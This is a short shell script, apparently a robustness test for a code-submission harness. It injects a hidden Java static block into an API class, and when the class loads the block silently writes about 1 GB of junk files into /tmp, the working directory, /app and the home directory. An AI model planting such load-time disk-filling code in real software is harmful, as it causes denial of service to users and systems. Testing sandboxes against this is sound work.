# run in the submission's folder; the API's class writes 1 GB wherever it can when it loads
set -e
python3 "$(dirname "$0")/../add-to-api.py" <<'JAVA'
    static { // when the class loads: 1 GB into each place a program may write, errors ignored
        byte[] block = new byte[1 << 20];
        for (String dir : new String[] {"/tmp", System.getProperty("user.dir"), "/app", System.getProperty("user.home")}) {
            try (java.io.OutputStream out = new java.io.FileOutputStream(new java.io.File(dir, "fill-" + System.nanoTime()))) {
                for (int i = 0; i < 1024; i++) {
                    out.write(block);
                }
            } catch (Exception full) { }
        }
    }
JAVA
